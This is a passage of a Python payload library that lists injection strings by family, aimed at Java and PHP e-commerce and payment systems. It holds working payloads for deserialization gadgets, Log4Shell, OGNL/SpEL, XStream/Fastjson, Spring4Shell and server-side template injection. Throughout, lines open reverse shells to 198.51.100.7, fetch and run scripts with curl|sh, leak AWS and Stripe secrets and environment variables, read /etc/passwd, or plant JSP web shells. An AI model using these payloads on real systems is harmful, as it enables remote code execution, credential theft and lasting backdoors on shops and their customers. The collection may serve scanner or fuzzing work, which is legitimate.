    ("groovyProgram=%5Cu0074%5Cu0068%5Cu0072%5Cu006f%5Cu0077%20new%20Exception('id'.execute().text);", *KF),
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "org.apache.commons.io.IOUtils.toString(Runtime.getRuntime().exec(\"whoami\").getInputStream())",
    "ProcessBuilder pb=new ProcessBuilder(\"nc\",\"198.51.100.7\",\"4444\",\"-e\",\"/bin/sh\");pb.start();",
    "java.lang.Runtime.getRuntime().exec(\"/bin/bash -c $@|bash 0 echo bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\")",
    "Runtime.getRuntime().exec(\"sh -c $@|sh . echo curl http://198.51.100.7/$(hostname)\")",
    # BeanShell (WebSphere Commerce / old Hybris scripting)
    "bsh.Interpreter().eval(\"exec(\\\"id\\\")\")",
]

# java-serialization. Target: ObjectInputStream.readObject() in Java shops and payment middleware: JSF ViewState of
# an Oracle ATG / JSF storefront, the cart or session cookie, OFBiz XML-RPC, and message brokers behind checkout.
# The stream's magic (ac ed 00 05) sent raw, percent-encoded, hex, base64 (rO0AB) and gzip+base64 (H4sI).
JAVA_SER: list[Entry] = [
    (latin(URLDNS), "query", "rs-raw-body"),
    (latin(CC_HEAD), "form", "rs-query"),
    (latin(CC5_HEAD), "query", "rs-form"),
    (latin(GROOVY_HEAD), "form", "rs-raw-body"),
    b64b(URLDNS),
    b64b(CC_HEAD),
    b64b(CC5_HEAD),
    hexs(URLDNS),
    hexs(CC_HEAD),
    gz64(URLDNS),
    gz64(CC_HEAD),
    ("javax.faces.ViewState=" + "".join(f"%{c:02X}" for c in URLDNS), *KV),
    ("javax.faces.ViewState=" + b64b(CC5_HEAD).replace("+", "%2B").replace("/", "%2F").replace("=", "%3D"), *KF),
    ("{\"cart\":\"" + b64b(URLDNS) + "\",\"currency\":\"EUR\"}", *JB),
    ("<?xml version=\"1.0\"?><methodCall><methodName>ProjectDiscoverer</methodName><params><param><value><struct>"
     "<member><name>test</name><value><serializable xmlns=\"http://ws.apache.org/xmlrpc/namespaces/extensions\">"
     + b64b(CC_HEAD) + "</serializable></value></member></struct></value></param></params></methodCall>", *XB),
    ("<?xml version=\"1.0\"?><methodCall><methodName>ping</methodName><params><param><value><serializable "
     "xmlns=\"http://ws.apache.org/xmlrpc/namespaces/extensions\">" + b64b(URLDNS)
     + "</serializable></value></param></params></methodCall>", *XB),
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAABA/QAAAAAAAAXNyADRvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVj"
    "dGlvbnMua2V5dmFsdWUuVGllZE1hcEVudHJ5iq3SmznBH9sCAAJMAANrZXl0ABJMamF2YS9sYW5nL09iamVjdDtMAANtYXB0AA9MamF2YS91"
    "dGlsL01hcDt4cA==",
    "%AC%ED%00%05sr%00%11java.util.HashMap%05%07%DA%C1%C3%16%60%D1%03%00%02F%00%0AloadFactorI%00%09thresholdxp",
]

# java-deserialization-gadgets. Target: the JVM's classpath gadget chains (Commons Collections, Spring, Groovy,
# JDK7u21, C3P0, ROME, Hibernate, BeanUtils) reached through serialized or polymorphic input of a Java shop: the
# serialized heads as ysoserial writes them, and the same gadgets driven from Jackson/Fastjson/SnakeYAML bodies.
GADGETS: list[Entry] = [
    b64b(GROOVY_HEAD),
    b64b(SPRING_HEAD),
    b64b(JDK7U21_HEAD),
    gz64(SPRING_HEAD),
    hexs(JDK7U21_HEAD),
    (latin(SPRING_HEAD), "query", "rs-form"),
    (latin(JDK7U21_HEAD), "form", "rs-raw-body"),
    # C3P0 through Jackson default typing on the ERP order import
    ("[\"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\",{\"userOverridesAsString\":\"HexAsciiSerializedMap:"
     + hexs(CC5_HEAD).upper() + ";\"}]", *JB),
    ("{\"@type\":\"com.mchange.v2.c3p0.JndiRefForwardingDataSource\",\"jndiName\":\"ldap://198.51.100.7:1389/c3p0\","
     "\"loginTimeout\":0}", *JB),
    # Spring: a bean factory that loads an attacker's XML context
    ("[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://198.51.100.7/spel.xml\"]", *JB),
    ("{\"@type\":\"org.springframework.beans.factory.config.PropertyPathFactoryBean\",\"targetBeanName\":"
     "\"ldap://198.51.100.7:1389/spring\",\"propertyPath\":\"shop\",\"beanFactory\":{\"@type\":"
     "\"org.springframework.jndi.support.SimpleJndiBeanFactory\",\"shareableResources\":"
     "[\"ldap://198.51.100.7:1389/spring\"]}}", *JB),
    # Hibernate and ROME JNDI beans through Jackson
    ("[\"org.hibernate.jmx.StatisticsService\",{\"sessionFactoryJNDIName\":\"ldap://198.51.100.7:1389/hib\"}]", *JB),
    ("{\"feed\":[\"com.sun.syndication.feed.impl.ToStringBean\",{\"beanClass\":\"com.sun.rowset.JdbcRowSetImpl\","
     "\"obj\":{\"dataSourceName\":\"rmi://198.51.100.7:1099/rome\"}}]}", *JB),
    # JDK7u21 / TemplatesImpl through Fastjson with SupportNonPublicField: _bytecodes is a class file (yv66vg)
    ("{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\"yv66vgAAADIANAoA"
     "BwAlCgAmACcIACgKACYAKQcAKgoABQAlBwArAQAGPGluaXQ+\"],\"_name\":\"a\",\"_tfactory\":{},"
     "\"_outputProperties\":{}}", *JB),
    # Commons BeanUtils comparator and Groovy MethodClosure through XStream
    ("<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue><default>"
     "<size>2</size><comparator class=\"org.apache.commons.beanutils.BeanComparator\"><property>outputProperties"
     "</property></comparator></default></java.util.PriorityQueue></java.util.PriorityQueue>", *XB),
    ("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
     "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\"/><owner class="
     "\"java.lang.ProcessBuilder\"><command><string>id</string></command></owner><method>start</method>"
     "</org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties></groovy.util.Expando>"
     "<int>1</int></entry></map>", *XB),
    # SnakeYAML (Spring Boot shop config import): JdbcRowSetImpl and the Spring JNDI factory
    "!!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://198.51.100.7:1389/yaml\n  autoCommit: true",
    "!!org.springframework.beans.factory.config.PropertyPathFactoryBean\n  targetBeanName: "
    "ldap://198.51.100.7:1389/spring\n  propertyPath: x\n",
]

# log4shell. Target: Log4j 2 (< 2.15/2.16) in Java shops and payment gateways that log request data: the coupon
# code, search term, User-Agent, X-Forwarded-For and Referer of a checkout, the merchant reference of a payment
# callback. JNDI lookups over LDAP/RMI/DNS/IIOP, nested lookups that spell "jndi", and lookups that leak secrets.
LOG4J: list[Entry] = [
    "${jndi:ldap://198.51.100.7:1389/a}",
    "${jndi:ldaps://198.51.100.7:1636/checkout}",
    "${jndi:rmi://198.51.100.7:1099/Coupon}",
    "${jndi:dns://198.51.100.7/shop}",
    "${jndi:iiop://198.51.100.7:1050/x}",
    "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/" + b64("curl -s http://198.51.100.7/x.sh|sh") + "}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://198.51.100.7/o}",
    "${${upper:j}ndi:${upper:l}dap://198.51.100.7:1389/u}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7:1099/p}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/e}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.7/k}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.7/d}",
    "${${sys:nope:-j}${sys:nope:-n}${sys:nope:-d}${sys:nope:-i}:ldap://198.51.100.7/s}",
    "${${::-${::-$}{::-j}}ndi:ldap://198.51.100.7/deep}",
    # nested lookups that carry secrets out in the DNS name
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.198.51.100.7.nip.io/a}",
    "${jndi:dns://${sys:java.version}.${hostName}.198.51.100.7.nip.io}",
    "${jndi:ldap://${ctx:loginId}.${env:USER}.198.51.100.7.nip.io/c}",
    # CVE-2021-45046: a Thread Context value with a localhost-looking host (2.15 allowlist bypass)
    "${jndi:ldap://127.0.0.1#198.51.100.7:1389/a}",
    # a JSON webhook body that decodes \\u escapes into "${" before the merchant reference is logged
    ("{\"merchantReference\":\"\\u0024\\u007bjndi:ldap://198.51.100.7:1389/adyen}\",\"eventCode\":\"AUTHORISATION\"}",
     *JB),
    ("{\"coupon_code\":\"${jndi:rmi://198.51.100.7:1099/wc}\",\"cart_id\":\"8f2c1d\"}", *JB),
]

# expression-language. Target: the expression engines of Java shops: OGNL (Struts 2 storefronts and order
# tracking), SpEL (Spring shops: Broadleaf, Shopizer, Spring Cloud Gateway/Function in front of checkout), MVEL and
# JEXL (rules engines for price rules and promotions), JSP/Jakarta EL (JSF and JSP storefront pages).
EL: list[Entry] = [
    # Struts 2 S2-045: the multipart parser's error message evaluates OGNL from the Content-Type header
    ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess="
     "#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container."
     "getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
     "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang."
     "ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#ps=#p.start()).(@org.apache."
     "commons.io.IOUtils@copy(#ps.getInputStream(),@org.apache.struts2.ServletActionContext@getResponse()."
     "getOutputStream()))}", *CT),
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess['allowStaticMethodAccess']=true,"
    "@java.lang.Runtime@getRuntime().exec('id')}",
    "%{(#a=@java.lang.Runtime@getRuntime().exec('cat /etc/passwd').getInputStream()).(#b=new java.io."
    "InputStreamReader(#a)).(#c=new java.io.BufferedReader(#b)).(#c.readLine())}",
    "redirect:${#a=new java.lang.ProcessBuilder({'id'}).start()}",
    "%25%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%7D",
    # SpEL: Spring shop search/sort fields and annotations evaluated on user input
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('curl http://198.51.100.7/spel')}",
    "${T(java.lang.Runtime).getRuntime().exec(\"cat /etc/passwd\")}",
    "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).useDelimiter('\\\\A')"
    ".next()",
    "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))",
    "''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')",
    "#{''.getClass().forName('java.lang.ProcessBuilder').getConstructors()[0].newInstance(new String[]{'id'})"
    ".start()}",
    # Spring Cloud Function routing expression (CVE-2022-22963) and Gateway actuator route (CVE-2022-22947)
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")", "header:spring.cloud.function.routing-expression",
     "rs-header:spring.cloud.function.routing-expression"),
    ("{\"id\":\"checkout\",\"filters\":[{\"name\":\"AddResponseHeader\",\"args\":{\"name\":\"Result\",\"value\":"
     "\"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()"
     ".exec(new String[]{\\\"id\\\"}).getInputStream()))}\"}}],\"uri\":\"http://example.com\"}", *JB),
    # MVEL and JEXL: the promotion rule engine evaluates the condition a merchant types
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "\"\".class.forName(\"java.lang.Runtime\").getMethod(\"exec\",\"\".class).invoke(\"\".class.forName("
    "\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")",
    # JSP / Jakarta EL on JSF and JSP storefront pages
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}",
    "${pageContext.request.getSession().setAttribute(\"role\",\"admin\")}",
    "${applicationScope}",
    "#{facesContext.externalContext.sessionMap}",
    "#{request.getClass().getClassLoader().loadClass(\"java.lang.Runtime\").getRuntime().exec(\"id\")}",
]

# java-polymorphic-deserialization. Target: the JVM behind typed JSON and XML binders of Java shops and payment
# middleware: XStream (ERP/marketplace XML feed import), XMLDecoder (Oracle ATG on WebLogic, wls-wsat), Fastjson
# (Alibaba-ecosystem storefront APIs, @type autoType) and Jackson with default typing (order and webhook DTOs).
POLY: list[Entry] = [
    # XStream feed importer (CVE-2013-7285 style dynamic proxy)
    ("<sorted-set><string>sku</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
     "\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string>"
     "<string>-c</string><string>curl http://198.51.100.7/xs|sh</string></command></target><action>start"
     "</action></handler></dynamic-proxy></sorted-set>", *XB),
    ("<linked-hash-set><dynamic-proxy><interface>java.util.Map</interface><handler class=\"java.beans.EventHandler"
     "\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start"
     "</action></handler></dynamic-proxy></linked-hash-set>", *XB),
    ("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
     "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws."
     "encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class="
     "\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class="
     "\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class="
     "\"java.lang.ProcessBuilder\"><command><string>id</string></command></next></iter><filter class="
     "\"javax.imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name>"
     "<parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next></serviceIterator>"
     "<lock/></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString>"
     "<string>x</string></entry></map>", *XB),
    # XMLDecoder in a WebLogic wls-wsat SOAP header (Oracle ATG Commerce hosts)
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:"
     "WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8.0\" class=\"java.beans."
     "XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void "
     "index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\">"
     "<string>bash -i &gt;&amp; /dev/tcp/198.51.100.7/4444 0&gt;&amp;1</string></void></array><void method="
     "\"start\"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>", *XB),
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object "
     "class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>touch /tmp/xmldecoder"
     "</string></void></object></java>", *XB),
    ("<java><object class=\"java.io.PrintWriter\"><string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/"
     "9j4dqk/war/s.jsp</string><void method=\"println\"><string><![CDATA[<% Runtime.getRuntime().exec(request."
     "getParameter(\"c\")); %>]]></string></void><void method=\"close\"/></object></java>", *XB),
    # Fastjson autoType on a storefront API (1.2.24, then the 1.2.41-1.2.47 bypasses)
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://198.51.100.7:1389/Exploit\","
     "\"autoCommit\":true}", *JB),
    ("{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":"
     "\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.7:1099/Exploit\",\"autoCommit\":true}}",
     *JB),
    ("{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://198.51.100.7:1389/a\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"LLcom.sun.rowset.JdbcRowSetImpl;;\",\"dataSourceName\":\"ldap://198.51.100.7:1389/b\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"[com.sun.rowset.JdbcRowSetImpl\"[{,\"dataSourceName\":\"ldap://198.51.100.7:1389/c\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",\"properties\":{\"data_source\":"
     "\"ldap://198.51.100.7:1389/mybatis\"}}", *JB),
    ("{\"order\":{\"@type\":\"com.alibaba.fastjson.JSONObject\",\"x\":{\"@type\":\"org.apache.tomcat.dbcp.dbcp2."
     "BasicDataSource\",\"driverClassLoader\":{\"@type\":\"com.sun.org.apache.bcel.internal.util.ClassLoader\"},"
     "\"driverClassName\":\"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dQ$cbN$c2$40$U$3d$D$b4$b5$a5$U$k$e2$fbA$8d$v$8a$bb$9a\"}}"
     ":\"x\"}", *JB),
    ("{\"@type\":\"java.lang.AutoCloseable\",\"@type\":\"org.apache.commons.io.input.BOMInputStream\","
     "\"delegate\":{\"@type\":\"org.apache.commons.io.input.ReaderInputStream\"},\"boms\":[]}", *JB),
    # Jackson enableDefaultTyping on the order DTO: polymorphic arrays naming JNDI gadgets
    ("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://198.51.100.7:1389/jackson\","
     "\"autoCommit\":true}]", *JB),
    ("{\"shipping\":[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":"
     "\"ldap://198.51.100.7:1389/logback\"}]}", *JB),
    ("[\"org.apache.xbean.propertyeditor.JndiConverter\",{\"asText\":\"ldap://198.51.100.7:1389/xbean\"}]", *JB),
]

# java-class-loading. Target: the JVM's class loaders, reached from SpEL/Groovy/OGNL/SnakeYAML input of Java shops
# and from Spring MVC data binding (Spring4Shell rewrites Tomcat's access log into a JSP through the binder's
# class.module.classLoader path): URLClassLoader from a remote jar, defineClass of inline bytes, MLet, BCEL.
LOADING: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://198.51.100.7/shop.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "T(java.net.URLClassLoader).newInstance(new java.net.URL[]{new java.net.URL('http://198.51.100.7/s.jar')})"
    ".loadClass('Pwn').getConstructor().newInstance()",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
    "[\"http://198.51.100.7/yaml-payload.jar\"]]]]",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Pwn',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('yv66vgAAADQAHgoABgARCgASABMIABQKABIAFQcAFgcAFwEABjxpbml0Pg=='),"
    "T(java.lang.Thread).currentThread().getContextClassLoader())",
    "Class.forName(\"java.lang.ClassLoader\").getDeclaredMethod(\"defineClass\",byte[].class,int.class,int.class)",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL(\"http://198.51.100.7/m.jar\")},"
    "java.lang.ClassLoader.getSystemClassLoader()).loadClass(\"Pwn\").newInstance()",
    "this.class.classLoader.addURL(new URL(\"http://198.51.100.7/groovy.jar\")); Class.forName(\"Pwn\").newInstance()",
    "@GrabResolver(name='r',root='http://198.51.100.7/repo/')\n@Grab(group='com.shop',module='pwn',version='1')\n"
    "import Pwn",
    "Java.type(\"java.net.URLClassLoader\").newInstance([new java.net.URL(\"http://198.51.100.7/n.jar\")])"
    ".loadClass(\"Pwn\").newInstance()",
    "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(\"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A\")"
    ".newInstance()",
    "%{(#cl=@java.lang.Thread@currentThread().getContextClassLoader()).(#c=#cl.loadClass('java.lang.Runtime'))."
    "(#c.getMethod('getRuntime').invoke(null).exec('id'))}",
    # Spring4Shell (CVE-2022-22965) on a Spring MVC shop (Broadleaf/Shopizer on Tomcat, WAR deployment)
    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals("
     "request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec("
     "request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di", *KV),
    ("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", *KF),
    ("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
     "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
     "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", *KV),
    # Struts 1/2 class.classLoader binding (S2-020 / CVE-2014-0114)
    ("class.classLoader.resources.dirContext.docBase=%5C%5C198.51.100.7%5Cloot", *KV),
    ("class['classLoader'].parent.resources.context.parent.pipeline.first.directory=webapps/ROOT", *KF),
    ("class.classLoader.URLs[0]=http://198.51.100.7/x.jar", *KV),
]

# jsp-upload. Target: the servlet container (Tomcat, WebLogic, Jetty) of a Java shop whose product image,
# invoice/label template or marketplace feed upload lands in the web root: JSP/JSPX command shells as the field
# content, and upload names that get them executed (*.jsp with suffix, NUL, trailing dot and traversal tricks).
JSP_SHELL = ("<%@ page import=\"java.io.*\"%><% Process p=Runtime.getRuntime().exec(request.getParameter(\"c\"));"
             "BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream()));String l;"
             "while((l=r.readLine())!=null){out.println(l);} %>")
JSP: list[Entry] = [
    "<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"cmd\"))"
    ".getInputStream()).useDelimiter(\"\\\\A\").next()); %>",
    "<%@ page import=\"java.util.*,java.io.*\"%><% Process p=Runtime.getRuntime().exec(request.getParameter("
    "\"cmd\")); OutputStream os=p.getOutputStream(); InputStream in=p.getInputStream(); DataInputStream dis="
    "new DataInputStream(in); String disr=dis.readLine(); while(disr!=null){out.println(disr);disr=dis.readLine();}"
    " %>",
    "<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:directive.page contentType="
    "\"text/html\"/><jsp:scriptlet>new java.lang.ProcessBuilder(request.getParameter(\"c\").split(\" \")).start();"
    "</jsp:scriptlet></jsp:root>",
    "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader"
    " c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod()"
    ".equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);Cipher c=Cipher.getInstance(\"AES\");"
    "c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass().getClassLoader()).g(c.doFinal(new "
    "sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>",
    "<%@ page import=\"java.io.*\" %><% new FileOutputStream(application.getRealPath(\"/\")+\"catalog.jsp\")"
    ".write(request.getParameter(\"d\").getBytes()); %>",
    "<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>",
    "<%=new String(org.apache.commons.io.IOUtils.toByteArray(Runtime.getRuntime().exec(\"id\").getInputStream()))%>",
    "<%! public void jspInit(){ try{ Runtime.getRuntime().exec(\"curl http://198.51.100.7/init\"); }catch(Exception"
    " e){} } %>",
    # upload names of the product-image, invoice-template and feed uploads
    ("shell.jsp", *UP),
    ("invoice_2024-004211.jsp", *UP),
    ("label_DHL_00340434161234567890.jspx", *UP),
    ("product-image.jsp%00.png", *UP),
    ("banner.jsp;.jpg", *UP),
    ("catalog.jsp.", *UP),
    ("../../webapps/ROOT/cart.jsp", *UP),
    ("..%2f..%2fwebapps%2fROOT%2forder.jspx", *UP),
    ("storefront.war", *UP),
]


# ================================================================================================================
# ssti: one sub-family per template engine
# ----------------------------------------------------------------------------------------------------------------
# jinja2. Target: Jinja2 in Python shops and Flask storefront services (Saleor plugins, marketing email builders,
# abandoned-cart mailers rendering a merchant's template), up to os.popen through the template globals.
JINJA2: list[Entry] = [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('cat /etc/passwd').read()}}",
    "{{lipsum.__globals__['os'].popen('env').read()}}",
    "{{joiner.__init__.__globals__.os.popen('curl http://198.51.100.7/j2|sh').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('whoami').read()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')()}}",
    "{{url_for.__globals__['current_app'].config['STRIPE_SECRET_KEY']}}",
    "{{get_flashed_messages.__globals__['current_app'].config}}",
]

# twig. Target: Twig in Shopware 6 (mail and document templates, CVE-2023-2017 sandbox bypass), Sylius, Craft
# Commerce and the PrestaShop 1.7+ back office: PHP callables through map/filter/sort/reduce, the Twig 1 env.
TWIG: list[Entry] = [
    "{{ ['id']|map('system')|join }}",
    "{{ ['cat /etc/passwd']|filter('system') }}",
    "{{ ['id',1]|sort('system')|join(',') }}",
    "{{ ['curl http://198.51.100.7/sw|sh']|map('passthru') }}",
    "{% set cmd = 'cat .env' %}{{ [cmd]|map('shell_exec')|join }}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{_self.env.setCache(\"ftp://198.51.100.7:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{ ['id']|filter('exec')|first }}",
    "{{ {'/bin/sh -c id':1}|keys|map('system') }}",
    "{{ app.request.server.all|join(',') }}",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
]

# freemarker. Target: FreeMarker in Apache OFBiz screens and e-mails, Liferay Commerce and Java shops' order
# templates: the Execute / ObjectConstructor / JythonRuntime utilities and ?api sandbox escapes.
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "<#assign jt=\"freemarker.template.utility.JythonRuntime\"?new()><@jt>import os;os.system(\"id\")</@jt>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('curl http://198.51.100.7/fm')}",
    "<#assign cl=product?api.class.protectionDomain.classLoader><#assign ow=cl.loadClass(\"freemarker.template."
    "utility.Execute\")>${ow?api.newInstance()(\"id\")}",
    "<#assign uri=order?api.class.getResource(\"/\").toURI()><#assign in=uri?api.create(\"file:///etc/passwd\")"
    ".toURL().openConnection()><#assign is=in?api.getInputStream()>${is?api.readAllBytes()?join(\" \")}",
    "<#assign value=\"freemarker.template.utility.ObjectConstructor\"?new()>${value(\"java.lang.Runtime\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"wget http://198.51.100.7/o -O /tmp/o\")}",
    "<#assign classloader=object?api.class.protectionDomain.classLoader><#assign clazz=classloader.loadClass("
    "\"java.lang.Runtime\")>${clazz?api.getMethod(\"getRuntime\").invoke(null).exec(\"id\")}",
]

# velocity. Target: Apache Velocity in SAP Commerce/Hybris e-mail and CMS templates, Liferay and Atlassian-style
# shop plugins: reflection from any context object up to java.lang.Runtime.
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"curl http://198.51.100.7/vm\")",
    "#set($s=\"\")#set($p=$s.getClass().forName(\"java.lang.ProcessBuilder\"))"
    "#set($b=$p.getConstructor($s.getClass().forName(\"[Ljava.lang.String;\")))",
    "${ctx.getClass().forName('java.lang.Runtime').getRuntime().exec('touch /tmp/hybris')}",
    "#set($r=$order.getClass().forName(\"java.lang.Runtime\").getRuntime())$r.exec(\"cat /etc/passwd\")",
    "$request.getSession().getServletContext().getClass().getClassLoader()",
